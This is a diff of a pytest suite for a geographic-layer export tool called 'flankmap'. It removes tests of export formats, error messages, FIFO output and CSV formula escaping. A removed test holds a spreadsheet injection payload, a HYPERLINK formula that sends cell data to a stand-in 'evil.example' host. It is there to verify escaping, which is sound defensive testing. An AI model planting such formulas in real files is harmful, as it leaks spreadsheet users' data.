@@ -13,7 +13,6 @@ import os
 import re
 import subprocess
 import sys
-import threading
 import xml.etree.ElementTree as ET
 import zipfile
 from pathlib import Path
@@ -36,31 +35,8 @@ LIST_COLUMNS = ("sources", "timeline", "operators", "units", "equipment", "alias
 GIS = ("gpkg", "fgb")
 
 
-def _one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
-    err = capsys.readouterr().err
-    lines = err.strip().splitlines()
-    assert len(lines) == 1, err
-    assert lines[0].startswith("flankmap: error: ")
-    return lines[0].removeprefix("flankmap: error: ")
-
-
-def _fifo_reader(folder: Path) -> tuple[Path, list[bytes], threading.Thread]:
-    """A FIFO in ``folder`` and a started thread that reads it whole into the list."""
-    fifo = folder / "pipe"
-    os.mkfifo(fifo)
-    got: list[bytes] = []
-    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
-    reader.start()
-    return fifo, got, reader
-
-
 def _leftovers(folder: Path) -> list[str]:
     return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))
-
-
-@pytest.fixture(scope="module")
-def every_layer() -> gpd.GeoDataFrame:
-    return layers.load_layers()
 
 
 def _typed_points() -> gpd.GeoDataFrame:
@@ -448,8 +424,8 @@ def test_a_full_disk_leaves_the_old_file(fmt, tmp_path, monkeypatch):
 
 
 @pytest.mark.parametrize("fmt", ["gpkg", "kmz"])
-def test_binary_exports_go_to_a_fifo(fmt, tmp_path):
-    fifo, got, reader = _fifo_reader(tmp_path)
+def test_binary_exports_go_to_a_fifo(fmt, tmp_path, fifo_reader):
+    fifo, got, reader = fifo_reader(tmp_path)
     write_points(_typed_points(), fifo, format=fmt)
     reader.join(10)
     saved = tmp_path / f"copy.{fmt}"
@@ -472,99 +448,6 @@ def test_formats_and_suffixes():
         writer_for("x.shp", format="shp")
 
 
-@pytest.mark.parametrize("fmt", ["geojson", "csv", "parquet"])
-def test_layers_in_the_other_formats_read_back(fmt, tmp_path, every_layer, capsys):
-    out = tmp_path / f"all.{fmt}"
-    assert main(["layers", "-o", str(out)]) == 0
-    assert capsys.readouterr().out == f"wrote {out} ({len(every_layer)} features)\n"
-    if fmt == "parquet":
-        back = gpd.read_parquet(out)
-    elif fmt == "csv":
-        with out.open(encoding="utf-8", newline="") as handle:
-            back = pd.DataFrame(list(csv.DictReader(handle)))
-    else:
-        back = pyogrio.read_dataframe(out)
-    assert back["id"].tolist() == every_layer["id"].tolist()
-    assert back["layer"].tolist() == every_layer["layer"].tolist()
-    assert back["since"].tolist() == every_layer["since"].tolist()
-    if fmt == "csv":
-        assert [json.loads(v) for v in back["sources"]] == list(every_layer["sources"])
-        assert back["coord_uncertainty_m"].tolist() == [
-            str(v) for v in every_layer["coord_uncertainty_m"]
-        ]
-
-
-def test_layer_csv_handles_formula_cells(hostile_layers, tmp_path, capsys):
-    out = tmp_path / "h.csv"
-    assert main(["layers", "hostile", "-o", str(out)]) == 0
-    assert "--excel-safe" in capsys.readouterr().err
-    safe = tmp_path / "safe.csv"
-    assert main(["layers", "hostile", "-o", str(safe), "--excel-safe"]) == 0
-    with safe.open(encoding="utf-8", newline="") as handle:
-        rows = list(csv.DictReader(handle))
-    names = [r["name"] for r in rows]
-    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
-    assert "'@SUM(1+1)" in names
-    assert json.loads(rows[0]["aliases"]) == [rows[0]["notes"]]
-
-
-def test_one_layer_by_name_with_a_format_that_is_not_the_suffix(tmp_path):
-    out = tmp_path / "efp.dat"
-    assert main(["layers", "nato_efp", "--format", "fgb", "-o", str(out)]) == 0
-    assert out.read_bytes()[:3] == b"fgb"
-    back = pyogrio.read_dataframe(out)
-    assert back["layer"].unique().tolist() == ["nato_efp"]
-    assert back["id"].tolist() == layers.load_layer("nato_efp")["id"].tolist()
-
-
-@pytest.mark.parametrize(
-    ("args", "message"),
-    [
-        (
-            ["-o", "{tmp}/out.shp"],
-            "out.shp: unknown output type '.shp'; use .csv, .geojson, .parquet, .gpkg, .fgb, "
-            ".kml, .kmz",
-        ),
-        (
-            ["-o", "{tmp}/out.kml", "--format", "xlsx"],
-            "unknown format 'xlsx'; use csv, geojson, parquet, gpkg, fgb, kml, kmz",
-        ),
-        (
-            ["--format", "kml"],
-            "--format needs -o FILE: flankmap layers [NAME] --format kmz -o FILE",
-        ),
-        (
-            ["nato_efp", "--geojson", "-o", "{tmp}/x.geojson"],
-            "give --geojson (print) or -o FILE (write), not both",
-        ),
-        (
-            ["-o", "{tmp}/nowhere/x.kml"],
-            "output folder '{tmp}/nowhere' does not exist; create it first",
-        ),
-        (["-o", "{tmp}/x.kml", "--as-of", "2020-13-01"], None),
-        (
-            ["check", "-o", "{tmp}/x.kml"],
-            "-o and --format export layers: flankmap layers [NAME] -o FILE",
-        ),
-    ],
-)
-def test_layers_export_errors_are_one_line(args, message, tmp_path, capsys):
-    before = sorted(tmp_path.iterdir())
-    assert main(["layers", *[a.format(tmp=tmp_path) for a in args]]) == 2
-    line = _one_error_line(capsys)
-    if message is not None:
-        assert line == message.format(tmp=tmp_path)
-    else:
-        assert "2020-13-01" in line
-    assert sorted(tmp_path.iterdir()) == before
-
-
-def test_unknown_layer_is_one_line(tmp_path, capsys):
-    assert main(["layers", "no_such_layer", "-o", str(tmp_path / "x.kmz")]) == 2
-    assert _one_error_line(capsys).startswith("no layer named 'no_such_layer'")
-    assert list(tmp_path.iterdir()) == []
-
-
 @pytest.mark.parametrize("fmt", ["gpkg", "fgb", "kmz"])
 def test_distances_write_the_new_formats(fmt, tmp_path, capsys):
     out = tmp_path / f"d.{fmt}"
@@ -580,18 +463,6 @@ def test_distances_write_the_new_formats(fmt, tmp_path, capsys):
     assert types["distance_m"] == types["bearing_deg"] == "float64"
     assert info["crs"] == "EPSG:4326"
     assert (pyogrio.read_dataframe(out)["distance_m"] > 0).all()
-
-
-def test_distances_of_points_stream_into_a_geopackage(tmp_path):
-    points = tmp_path / "p.csv"
-    rows = "".join(f"p{i},{54 + i / 100},{25 + i / 100}\n" for i in range(25))
-    points.write_text("id,lat,lon\n" + rows, encoding="utf-8")
-    out = tmp_path / "d.gpkg"
-    args = ["distances", "--points", str(points), "-o", str(out), "--chunk-rows", "10"]
-    assert main(args) == 0
-    back = pyogrio.read_dataframe(out)
-    assert back["id"].tolist() == [f"p{i}" for i in range(25)]
-    assert back["distance_m"].dtype == np.float64
 
 
 @pytest.mark.parametrize("fmt", ["gpkg", "fgb", "kml"])
@@ -612,44 +483,3 @@ def test_a_hostile_point_file_exports_literally(fmt, hostile_csv, hostile_corpus
         assert back[hostile_column].tolist() == texts
         assert back["name"].tolist() == back["notes"].tolist() == texts
     assert not (Path.cwd() / "PWNED").exists()
-
-
-def test_an_export_never_overwrites_a_layer_file(hostile_layers, capsys):
-    source = hostile_layers / "hostile.geojson"
-    before = source.read_bytes()
-    assert main(["layers", "-o", str(source)]) == 2
-    assert (
-        _one_error_line(capsys)
-        == f"output {str(source)!r} would overwrite the input {str(source)!r}"
-    )
-    assert source.read_bytes() == before
-
-
-def test_an_export_to_a_stream_says_so_on_stderr(tmp_path, capfd):
-    """-o /dev/stdout (or any FIFO or device): the file alone on stdout, the message on stderr."""
-    fifo, got, reader = _fifo_reader(tmp_path)
-    assert main(["layers", "nato_efp", "--format", "kml", "-o", str(fifo)]) == 0
-    reader.join(10)
-    out, err = capfd.readouterr()
-    assert out == ""
-    assert err == f"wrote {fifo} ({len(layers.load_layer('nato_efp'))} features)\n"
-    assert got[0].rstrip().endswith(b"</kml>")
-
-
-def test_distances_to_a_stream_say_so_on_stderr(tmp_path, capfd):
-    fifo, got, reader = _fifo_reader(tmp_path)
-    args = ["distances", "--layers", "nato_efp", "--frontier", "RUS,BLR:NATO", "-o", str(fifo)]
-    assert main(args) == 2  # a FIFO's name has no suffix: one line
-    assert "unknown output type ''" in capfd.readouterr().err
-    points = tmp_path / "p.csv"
-    points.write_text("id,lat,lon\na,54.5,25.3\n", encoding="utf-8")
-    link = tmp_path / "out.csv"
-    link.symlink_to(fifo)
-    assert main(["distances", "--points", str(points), "-o", str(link)]) == 0
-    reader.join(10)
-    out, err = capfd.readouterr()
-    assert out == ""
-    wrote, borders_line = err.splitlines()
-    assert wrote == f"wrote {link} (1 rows)"
-    assert borders_line.startswith("flankmap: borders: OpenStreetMap")
-    assert got[0].startswith(b"id,lat,lon,distance_m")
